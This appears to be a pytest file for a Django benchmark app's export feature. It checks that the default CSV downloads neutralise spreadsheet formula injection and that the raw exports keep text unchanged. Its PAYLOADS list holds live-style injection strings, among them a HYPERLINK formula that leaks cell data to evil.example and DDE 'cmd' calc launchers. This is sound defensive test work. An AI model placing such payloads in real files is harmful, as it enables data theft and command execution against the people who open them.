"""CSV formula injection: text that a spreadsheet would run as a formula (a cell beginning
with =, +, -, @, a tab or a carriage return) is written with a leading apostrophe in the
spreadsheet-safe CSV, the default of every CSV download, export job and the report command;
numbers stay numbers. The raw CSV and JSON Lines keep every text as it was entered."""

import csv
import hashlib
import io
import json
import re

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.roles import RESEARCHER
from accounts.services import user_create_with_role
from annotation.models import (
    Ability,
    Case,
    Category,
    ReviewRound,
    Scenario,
    System,
    Vote,
)
from core.tables import spreadsheet_cells, spreadsheet_text
from judging.models import JudgeTask, Verdict
from judging.scoring import Profile
from leaderboard.exports.files import csv_lines, export_lines
from leaderboard.exports.headers import TIDY_HEADER
from leaderboard.exports.tidy import tidy_rows
from leaderboard.models import ExportJob
from tests.conftest import client_for
from tests.leaderboard.test_agreement_report import data  # noqa: F401  (the shared fixture)
from tests.leaderboard.test_export_jobs_api import token_client

pytestmark = pytest.mark.django_db

LEADING = ("=", "+", "-", "@", "\t", "\r")
# One payload per leading character, as they are found in the wild.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Numbers written as text read as numbers in a spreadsheet, never as formulas.
NUMBERS = ("-4", "+1.5", "-2e3")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
KINDS = ("tidy", "votes", "verdicts", "scores")


def unsafe(cell: str) -> bool:
    return cell[:1] in LEADING and NUMBER.fullmatch(cell) is None


@pytest.fixture
def formulas(data):  # noqa: F811
    """The shared data set with a formula in every kind of free text: names of the round,
    the system, the scenes, ability and category, question ids, notes and reasoning."""
    round_, run = data
    ReviewRound.objects.filter(pk=round_.pk).update(name="=R")
    System.objects.update(name="@Sys")
    Case.objects.filter(external_id="c1").update(external_id="+c1")
    Case.objects.filter(external_id="c2").update(external_id="-c2")
    Scenario.objects.update(primary="=职场心理", secondary="\r工作压力")
    other = Scenario.objects.create(benchmark=run.benchmark, primary="\t家庭", secondary="-亲子")
    Case.objects.filter(external_id="-c2").update(scenario=other)
    Category.objects.update(name_en="-Cat")
    Ability.objects.filter(label="好奇心").update(label="@好奇心")
    notes = (*PAYLOADS, *NUMBERS, "plain")
    for n, vote in enumerate(Vote.objects.order_by("pk")):
        Vote.objects.filter(pk=vote.pk).update(note=notes[n % len(notes)])
    for n, verdict in enumerate(Verdict.objects.order_by("pk")):
        Verdict.objects.filter(pk=verdict.pk).update(reasoning=PAYLOADS[n % len(PAYLOADS)])
    JudgeTask.objects.filter(run=run).update(reasoning="=SUM(A1:A9)", last_error="+err")
    return ReviewRound.objects.get(pk=round_.pk), run


@pytest.fixture
def researcher():
    return user_create_with_role(username="researcher", password="x-pass-123", role=RESEARCHER)


def _params(round_, run, kind) -> dict:
    return {
        "round": round_.pk,
        "run": run.pk,
        **({"profile": "heartbench"} if kind == "scores" else {}),
    }


def _download(client, round_, run, kind, fmt) -> bytes:
    response = client.get(
        reverse("export-download", args=["hb", kind, fmt]), _params(round_, run, kind)
    )
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _neutralised(rows: list[list[str]]) -> set[str]:
    """The leading characters of the cells the safe CSV neutralised."""
    return {cell[1] for row in rows for cell in row if cell[:1] == "'" and cell[1:2] in LEADING}


@pytest.mark.parametrize("kind", KINDS)
def test_the_default_csv_neutralises_every_formula_and_keeps_numbers(formulas, researcher, kind):
    round_, run = formulas
    client = client_for(researcher)
    safe = _rows(_download(client, round_, run, kind, "csv"))
    assert [cell for row in safe for cell in row if unsafe(cell)] == []
    assert _neutralised(safe) == set(LEADING)  # each leading character was met, and handled

    raw = _rows(_download(client, round_, run, kind, "csv-raw"))
    assert len(safe) == len(raw) > 1 and safe[0] == raw[0]
    # The safe file is the raw one with an apostrophe in front of exactly the unsafe cells.
    for safe_row, raw_row in zip(safe, raw, strict=True):
        assert safe_row == ["'" + cell if unsafe(cell) else cell for cell in raw_row]
    cells = {cell for row in raw for cell in row}
    assert any(unsafe(cell) for cell in cells)  # the raw file keeps them as they were

    named = [dict(zip(safe[0], row, strict=True)) for row in safe[1:]]
    if kind == "tidy":
        assert {"-10", "3", ""} <= {row["weight"] for row in named}  # a negative weight stays
    if kind in ("tidy", "votes"):
        column = "rater_note" if kind == "tidy" else "note"
        assert set(NUMBERS) <= {row[column] for row in named}
        assert {"'" + p for p in PAYLOADS} <= {row[column] for row in named}
        assert '\'=HYPERLINK("http://evil.example/?d="&A2,"详情")' in {row[column] for row in named}
    if kind == "scores":
        assert {row["system"] for row in named} == {"'@Sys"}
        assert {row["question_id"] for row in named} == {"'+c1", "'-c2"}
        assert {row["primary_scene"] for row in named} == {"'=职场心理", "'\t家庭"}
        assert {row["secondary_scene"] for row in named} == {"'\r工作压力", "'-亲子"}
        assert all(NUMBER.fullmatch(row["case_score"]) for row in named)


def test_the_tidy_writer_is_the_general_writer_to_the_byte_in_both_dialects(formulas):
    round_, run = formulas
    rows = list(tidy_rows(round_=round_, run=run))
    for fmt, safe in (("csv", True), ("csv-raw", False)):
        written = export_lines(
            kind="tidy", fmt=fmt, round_=round_, run=run, profile=Profile.HEARTBENCH
        )
        assert b"".join(written) == b"".join(csv_lines(TIDY_HEADER, rows, safe=safe))


@pytest.mark.parametrize("kind", KINDS)
def test_json_lines_keep_every_text_as_it_was(formulas, researcher, kind):
    round_, run = formulas
    client = client_for(researcher)
    raw = _rows(_download(client, round_, run, kind, "csv-raw"))
    body = _download(client, round_, run, kind, "jsonl").decode()
    records = [json.loads(line) for line in body.splitlines()]
    assert len(records) == len(raw) - 1
    for record, row in zip(records, raw[1:], strict=True):
        assert ["" if value is None else str(value) for value in record.values()] == row
    texts = {value for record in records for value in record.values() if isinstance(value, str)}
    assert "@Sys" in texts and "'@Sys" not in texts


def test_the_page_offers_both_csv_files_and_says_what_the_safe_one_does(formulas, researcher):
    page = client_for(researcher).get(reverse("exports", args=["hb"])).content.decode()
    for kind in KINDS:
        for fmt in ("csv", "csv-raw", "jsonl"):
            assert reverse("export-download", args=["hb", kind, fmt]) in page
    assert "raw CSV" in page and "apostrophe" in page


def test_the_raw_download_is_named_raw(formulas, researcher):
    round_, _ = formulas
    url = reverse("export-download", args=["hb", "votes", "csv-raw"])
    response = client_for(researcher).get(url, {"round": round_.pk})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="hb-votes-round{round_.pk}-raw.csv"' in response["Content-Disposition"]


@pytest.fixture
def root(settings, tmp_path):
    settings.EXPORT_ROOT = tmp_path / "exports"
    return settings.EXPORT_ROOT


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("fmt", ["csv", "csv-raw"])
def test_export_jobs_from_the_page_write_the_same_safe_or_raw_file(
    formulas, researcher, root, django_capture_on_commit_callbacks, kind, fmt
):
    round_, run = formulas
    client = client_for(researcher)
    form = {"kind": kind, "format": fmt, **_params(round_, run, kind)}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("export-job-new", args=["hb"]), form)
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE and job.format == fmt, job.error_message
    on_disk = (root / job.path).read_bytes()
    assert on_disk == _download(client, round_, run, kind, fmt)
    assert job.rows == len(_rows(on_disk)) - 1
    rows = _rows(on_disk)
    if fmt == "csv":
        assert not any(unsafe(cell) for row in rows for cell in row)
    else:
        assert job.filename.endswith("-raw.csv")
        assert any(unsafe(cell) for row in rows for cell in row)
    page = client.get(reverse("exports", args=["hb"])).content.decode()
    assert job.filename in page


@pytest.mark.parametrize("fmt", ["csv", "csv-raw"])
def test_export_jobs_over_the_api_write_the_same_safe_or_raw_file(
    formulas, researcher, root, django_capture_on_commit_callbacks, fmt
):
    round_, run = formulas
    api = token_client(RESEARCHER, "api-researcher")
    body = {"kind": "tidy", "format": fmt, "round": round_.pk, "run": run.pk}
    with django_capture_on_commit_callbacks(execute=True):
        created = api.post("/api/benchmarks/hb/export-jobs/", body, content_type="application/json")
    assert created.status_code == 201, created.content
    job = api.get(f"/api/benchmarks/hb/export-jobs/{created.json()['id']}/").json()
    assert job["status"] == "done" and job["format"] == fmt
    file = api.get(f"/api/benchmarks/hb/export-jobs/{job['id']}/file")
    content = b"".join(file.streaming_content)
    assert content == _download(client_for(researcher), round_, run, "tidy", fmt)
    assert job["sha256"] == hashlib.sha256(content).hexdigest()
    has_formula = any(unsafe(cell) for row in _rows(content) for cell in row)
    assert has_formula == (fmt == "csv-raw")


def test_the_api_refuses_an_unknown_format_naming_the_choices(formulas, root):
    round_, run = formulas
    api = token_client(RESEARCHER, "api-researcher")
    body = {"kind": "tidy", "format": "xlsx", "round": round_.pk, "run": run.pk}
    refused = api.post("/api/benchmarks/hb/export-jobs/", body, content_type="application/json")
    assert refused.status_code == 400 and "format" in refused.json()
    assert not ExportJob.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "csv-raw"])
def test_the_report_command_writes_safe_csv_by_default_and_raw_on_request(formulas, fmt):
    _, run = formulas
    out = io.StringIO()
    call_command(
        "agreement_report",
        "--benchmark", "hb", "--round", "=R", "--judge-run", str(run.pk),
        "--resamples", "50", "--format", fmt,
        stdout=out,
    )  # fmt: skip
    rows = _rows(out.getvalue().encode())
    groups = {row[1] for row in rows[1:]}
    if fmt == "csv":
        assert "'@Sys" in groups and "'@好奇心" in groups
        assert not any(unsafe(cell) for row in rows for cell in row)
    else:
        assert "@Sys" in groups and "@好奇心" in groups


@pytest.mark.parametrize("lead", LEADING)
def test_a_text_cell_is_neutralised_by_its_first_character_alone(lead):
    assert spreadsheet_text(lead + "x") == "'" + lead + "x"
    assert spreadsheet_text(lead) == "'" + lead
    assert spreadsheet_text("x" + lead) == "x" + lead  # later in the text it is harmless
    cells = [lead + "1+1", 3, -4, -0.5, None]
    assert spreadsheet_cells(cells) == ["'" + lead + "1+1", 3, -4, -0.5, None]


def test_numbers_written_as_text_stay_numbers():
    for number in ("-4", "+4", "-10", "-0.25", "+1.5", "-.5", "-2e3", "-1E-7", "3"):
        assert spreadsheet_text(number) == number
    for text in ("-", "+", "- 4", "-4 ", "-4,5", "-1-1", "-0x10", "-inf", "-nan", "--4", "'=x", ""):
        assert spreadsheet_text(text) == ("'" + text if text[:1] in LEADING else text)
